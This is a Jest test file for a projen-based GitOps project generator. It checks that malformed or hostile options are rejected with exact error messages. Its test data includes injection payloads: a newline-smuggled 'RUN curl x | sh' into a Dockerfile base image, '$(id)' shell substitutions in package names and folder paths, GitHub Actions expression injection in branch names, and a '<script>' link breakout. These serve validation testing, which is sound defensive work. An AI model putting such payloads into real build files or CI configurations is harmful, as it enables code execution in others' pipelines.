/**
 * One test per option error: the exact option path, the value as written and a fix that is
 * itself valid. Hostile values from issue 11 (injection into scripts, YAML and Dockerfiles).
 */
import * as fs from 'fs';
import { javascript } from 'projen';
import { BranchProtection, ContainerImage, DependencyUpdates, GitOpsProjectOptions, Runtime } from '../../src';
import { gitopsProject, readTree, synth, tempdir } from '../util';

process.env.PROJEN_DISABLE_POST = 'true';

const fails = (options: Partial<GitOpsProjectOptions>) => () => gitopsProject(options).synth();

describe('grammars', () => {
  test.each<[string, Partial<GitOpsProjectOptions>, RegExp]>([
    ['a registry port above 65535', { registry: 'ghcr.io:99999' },
      /- registry: must be a registry host .* with an optional port from 1 to 65535, .*got 'ghcr\.io:99999'; try 'ghcr\.io'$/m],
    ['a registry port of 0', { registry: 'registry.internal:0' }, /- registry: .*got 'registry\.internal:0'; try 'registry\.internal'$/m],
    ['a base image with a newline (it would add FROM and RUN lines)', { baseImage: 'node:22\nFROM evil:1\nRUN curl x | sh' },
      /- baseImage: must be an image reference like 'docker\.io\/library\/node:22-trixie-slim' .*got 'node:22\\nFROM evil:1\\nRUN curl x \| sh'; try 'node:22'$/m],
    ['a base image with a newline in its registry part (it was never checked)', { baseImage: 'mirror.internal\nRUN curl x | sh\nFROM x/node:22' },
      /- baseImage: must be an image reference .*got 'mirror\.internal\\nRUN curl x \| sh\\nFROM x\/node:22'; try 'docker\.io\/library\/node:22-trixie-slim'$/m],
    ['a base image whose registry port is out of range', { baseImage: 'mirror.internal:70000/node:22' },
      /- baseImage: must have a registry port from 1 to 65535, got 'mirror\.internal:70000\/node:22'; try 'mirror\.internal\/node:22'$/m],
    ['a base image with a bad registry host', { baseImage: 'mirror_internal:5000/node:22' }, /- baseImage: must be an image reference .*got 'mirror_internal:5000\/node:22'/],
    ['a build image with a space', { runtime: Runtime.GO, buildImage: 'golang:1.23 AS x' },
      /- buildImage: must be an image reference .*got 'golang:1\.23 AS x'; try 'golang:1\.23'$/m],
    ['an expression as the default branch', { defaultBranch: '${{github.event.pull_request.title}}' },
      /- defaultBranch: must be a git branch name .*got '\$\{\{github\.event\.pull_request\.title\}\}'; try 'main'$/m],
    ['a filter pattern as the default branch', { defaultBranch: 'release/*' }, /- defaultBranch: must be a git branch name .*got 'release\/\*'; try 'release'$/m],
    ['a branch with a lock suffix', { defaultBranch: 'main.lock' }, /- defaultBranch: .*got 'main\.lock'; try 'main'$/m],
    ['a title with a newline', { title: 'Orders\nLABEL x=y' }, /- title: must be one line of at most 128 printable characters.*got 'Orders\\nLABEL x=y'; try 'Orders LABEL x=y'$/m],
    ['a description with a Dockerfile variable', { description: 'costs $HOME' }, /- description: must be one line .*'\$'.*got 'costs \$HOME'; try 'costs HOME'$/m],
    ['a health path with a URL', { healthPath: 'http://x/h' }, /- healthPath: must be an absolute URL path.*got 'http:\/\/x\/h'; try '\/h'$/m],
    ['a health path with a control character', { healthPath: '/a\u0001b' }, /- healthPath: .*got '\/a\\u0001b'; try '\/a-b'$/m],
    ['an image name with an empty part after the registry', { imageName: 'ghcr.io//x' }, /- imageName: must not include the registry \('ghcr\.io'\), got 'ghcr\.io\/\/x'; set registry: 'ghcr\.io' and imageName: 'x'; try 'x'$/m],
    ['an image name whose fix would read as a registry (found by the property test)', { imageName: "a.lock'cme/api" },
      /- imageName: must be an OCI repository name .*got 'a\.lock\\'cme\/api'; try 'a-lock-cme\/api'$/m],
    ['a security contact that breaks out of the link', { securityContact: 'https://x.example/a><script>' }, /- securityContact: must be an email address or an https URL, got 'https:\/\/x\.example\/a><script>'; try 'security@example\.com'$/m],
    ['a code owner email with a comment sign', { codeOwners: ['@ok', 'a#b@example.com'] }, /- codeOwners\[1\]: must be '@user', '@org\/team' or an email address, got 'a#b@example\.com'; try '@a-b-example-com'$/m],
    ['an env value with a control character', { runtimeStage: { env: { A: 'x\ry' } } }, /- runtimeStage\.env: values must be one line without control characters, got 'x\\ry' for A/],
    ['a custom Dockerfile path with a quote', { runtime: Runtime.CUSTOM, dockerfile: "Docker'file" }, /- dockerfile: must be a file inside the service's folder .*got 'Docker\\'file'; try 'Dockerfile'$/m],
    ['a command part with a line separator', { command: ['node', 'a\u2028b'] },
      /- command: must be a non-empty list of non-empty strings without control or line-separator characters \(exec form\), got \['node', 'a\\u2028b'\]; try \["node","src\/server\.js"\]$/m],
    ['an instruction keyword glued to a quote (the parser reads RUN\' as the keyword)', { runtimeStage: { instructions: ["RUN' mkdir -p /data"] } },
      /- runtimeStage\.instructions: must each be one Dockerfile instruction .*got 'RUN\\' mkdir -p \/data'/],
    ['an instruction with a line separator (found by the fuzz test)', { buildStage: { instructions: ['RUN mkdir -p /cache\u2028x'] } },
      /- buildStage\.instructions: must be one instruction per entry \(a line break only after '\\', no other control or line-separator character\), got 'RUN mkdir -p \/cache\\u2028x'/],
    ['a base image with a short digest', { baseImage: 'node:22@sha256:abc' }, /- baseImage: has a malformed digest, got 'node:22@sha256:abc'; use '@sha256:' followed by 64 lowercase hex digits, or a tag; try 'node:22'$/m],
    ['a base image without a version', { baseImage: 'mirror.internal:5000/node' },
      /- baseImage: must pin a version with a tag other than 'latest' or a digest, got 'mirror\.internal:5000\/node'; pin a version as 'mirror\.internal:5000\/node:<version>' or .*, or try 'docker\.io\/library\/node:22-trixie-slim'$/m],
    ['a dependency with a newline', { deps: ['express@^4', 'a\nb'] }, /- deps\[1\]: must be an npm package name .*, got 'a\\nb'; try 'a-b'$/m],
    ['a dev dependency with a shell substitution', { devDeps: ["x'$(id)"] }, /- devDeps\[0\]: must be an npm package name .*, got 'x\\'\$\(id\)'; try 'x-id'$/m],
  ])('%s is refused', (_name, options, message) => {
    expect(fails(options)).toThrow(message);
  });

  test('a service name that is not a job id (2fa) or not a DNS label (api.v2) is refused with one that is', () => {
    expect(fails({ services: [{ name: 'api.v2' }, { name: '2fa' }] })).toThrow(
      /- services\[0\]\.name: must be a lowercase name of letters, digits and '-', starting with a letter.*\(it is a job id and a DNS label\), got 'api\.v2'; try 'api-v2'\n  - services\[1\]\.name: .*got '2fa'; try 'svc-2fa'$/m);
  });

  test('the root service of a multi-service repository is named by serviceName, whose default is the project name', () => {
    expect(fails({ name: 'my.app', services: [{ name: 'worker' }] })).toThrow(
      /- serviceName: .*got 'my\.app' \(its default, the project name, names jobs in a repository of several services: set serviceName\); try 'my-app'$/m);
    expect(Object.keys(synth(gitopsProject({ name: 'my.app', serviceName: 'my-app', services: [{ name: 'worker' }] })))).toContain('services/worker/Dockerfile');
  });

  test('a service folder with shell, expression or newline characters is refused (they reached the changes script and .dockerignore)', () => {
    expect(fails({ services: [{ name: 'w', path: "a'$(id)\nb" }] })).toThrow(
      /- services\[0\]\.path: must be a folder inside the repository: parts of letters, digits, '\.', '_', '-' .*got 'a\\'\$\(id\)\\nb'; try 'a-id-b'$/m);
    expect(fails({ services: [{ name: 'w', path: 'x/${{ github.head_ref }}' }] })).toThrow(/- services\[0\]\.path: .*got 'x\/\$\{\{ github\.head_ref \}\}'; try 'x\/github\.head_ref'$/m);
    expect(fails({ services: [{ name: 'w', path: 'a/../b' }] })).toThrow(/- services\[0\]\.path: .*got 'a\/\.\.\/b'; try 'a\/b'$/m);
  });
});

describe('messages', () => {
  test("runtime 'toString' is an unknown runtime, not a command problem (no prototype lookup)", () => {
    expect(fails({ runtime: 'toString' as Runtime })).toThrow(/^projen-gitops: 1 problem in \.projenrc\.ts \(no file was changed\):\n  - runtime: must be one of 'node', .*got 'toString'; try Runtime\.NODE$/);
  });

  test('NaN and Infinity are shown as written', () => {
    expect(fails({ port: NaN, services: [{ name: 'w', uid: Infinity }] })).toThrow(/- port: must be an integer from 1 to 65535, got NaN; try 8080\n  - services\[0\]\.uid: .*got Infinity; try 10001$/m);
  });

  test('a 300-character value is cut in the message, and the fix fits the grammar', () => {
    expect(fails({ services: [{ name: 'x'.repeat(300) }] })).toThrow(new RegExp(`- services\\[0\\]\\.name: .*got '${'x'.repeat(100)}\\.\\.\\.' \\(300 characters\\); try '${'x'.repeat(63)}'$`, 'm'));
  });

  test('errors of a service name its path, services[i] or addService(name)', () => {
    const project = gitopsProject({ services: [{ name: 'a' }, { name: 'b', port: 0 }] });
    project.addService({ name: 'c', healthPath: 'x' });
    expect(() => project.synth()).toThrow(/- services\[1\]\.port: must be an integer from 1 to 65535, got 0; try 8080\n  - addService\('c'\)\.healthPath: .*got 'x'; try '\/x'$/m);
  });

  test('a registry a service inherits is reported once, at the top level', () => {
    expect(fails({ registry: 'ghcr.io:0', services: [{ name: 'a' }] })).toThrow(/^projen-gitops: 1 problem .*\n  - registry: .*got 'ghcr\.io:0'/);
  });

  // Each repository fact is checked once, by Repository: the components read it there and check
  // only what their own options override (nothing is merged afterwards).
  test.each<[string, Partial<GitOpsProjectOptions>, RegExp]>([
    ['default branch', { defaultBranch: 'release/*' }, /^projen-gitops: 1 problem .*\n  - defaultBranch: must be a git branch name .*got 'release\/\*'; try 'release'$/],
    ['tag pattern', { tagPattern: 'v *' }, /^projen-gitops: 1 problem .*\n  - tagPattern: must be a tag glob .*got 'v \*'; try 'v\*'$/],
    ['runner', { runsOn: 'my runner' }, /^projen-gitops: 1 problem .*\n  - runsOn: must be a runner label .*got 'my runner'; try 'ubuntu-24\.04'$/],
  ])('a bad %s is reported once, under the option written, whatever reads it', (_name, options, message) => {
    expect(fails({ repository: 'acme/orders', iac: undefined, ...options })).toThrow(message);
  });

  test('a service name a chart and the jobs both use is reported once, by the service', () => {
    expect(fails({ repository: 'acme/orders', services: [{ name: 'on', path: 'services/x' }] })).toThrow(/^projen-gitops: 1 problem .*\n  - services\[0\]\.name: must be a lowercase name .*got 'on'; try 'on-svc'$/);
    // The only service, named after the project: the project's name is what to change.
    expect(() => gitopsProject({ name: 'orders.v2', repository: 'acme/orders' }).synth()).toThrow(/^projen-gitops: 1 problem .*\n  - name: must be a lowercase name .*got 'orders\.v2'; try 'orders-v2'$/);
  });
});

describe('collisions and nested folders are option errors, raised before projen', () => {
  test('two services in one folder', () => {
    expect(fails({ services: [{ name: 'a', path: 'x' }, { name: 'b', path: 'x' }] })).toThrow(
      /^projen-gitops: 1 problem in \.projenrc\.ts \(no file was changed\):\n  - services\[1\]\.path: must be a folder no other service uses, got 'x', the folder of service 'a'; try 'services\/b'$/);
  });

  test("a service at '.' besides the root one", () => {
    expect(fails({ services: [{ name: 'a', path: '.' }] })).toThrow(/- services\[0\]\.path: must be a folder no other service uses, got '\.', the folder of service 'orders' \('\.' is the repository root, the top-level service's folder\); try 'services\/a'$/m);
  });

  test('two services with one name', () => {
    // Once, as the name's: the folder follows the name, and so does the fix.
    expect(fails({ services: [{ name: 'a' }, { name: 'a' }] })).toThrow(/^projen-gitops: 1 problem .*\n {2}- services\[1\]\.name: must be unique, got 'a' twice; try 'a-2'$/m);
  });

  test('a service folder inside another service folder', () => {
    expect(fails({ services: [{ name: 'a', path: 'services/a' }, { name: 'b', path: 'services/a/b' }] })).toThrow(
      /- services\[0\]\.path|services\[1\]\.path: must not be inside the folder of service 'a' \('services\/a'\), whose image would ship this service's source, got 'services\/a\/b'; try 'services-a-b'$/m);
    // The outer one, added second, is not the one to move.
    expect(fails({ services: [{ name: 'b', path: 'services/a/b' }, { name: 'a', path: 'services/a' }] })).toThrow(/- services\[0\]\.path: must not be inside the folder of service 'a'/);
  });

  test('a ContainerImage on a file another component writes, in any projen project', () => {
    const project = new javascript.NodeProject({ name: 'x', defaultReleaseBranch: 'main', outdir: tempdir() });
    new ContainerImage(project, { serviceName: 'a' });
    new ContainerImage(project, { serviceName: 'b' });
    expect(() => project.synth()).toThrow(/- path: must be a folder no other service uses, got '\.', the folder of service 'a'/);
  });

  test('nothing is written', () => {
    const dir = tempdir();
    gitopsProject({ outdir: dir }).synth();
    const before = readTree(dir);
    expect(() => gitopsProject({ outdir: dir, services: [{ name: 'a', path: '.' }] }).synth()).toThrow(/services\[0\]\.path/);
    expect(readTree(dir)).toEqual(before);
    fs.rmSync(dir, { recursive: true, force: true });
  });
});

describe('numbers of the other components are shown as written', () => {
  test('NaN cooldown days and an infinite app id', () => {
    const project = new javascript.NodeProject({ name: 'x', defaultReleaseBranch: 'main', outdir: tempdir() });
    new DependencyUpdates(project, { cooldownDays: NaN });
    new BranchProtection(project, { checksAppId: Infinity });
    expect(() => project.synth()).toThrow(/- cooldownDays: must be a whole number of days from 0 to 90, got NaN; try 7[\s\S]*- checksAppId: .*got Infinity;/);
  });
});
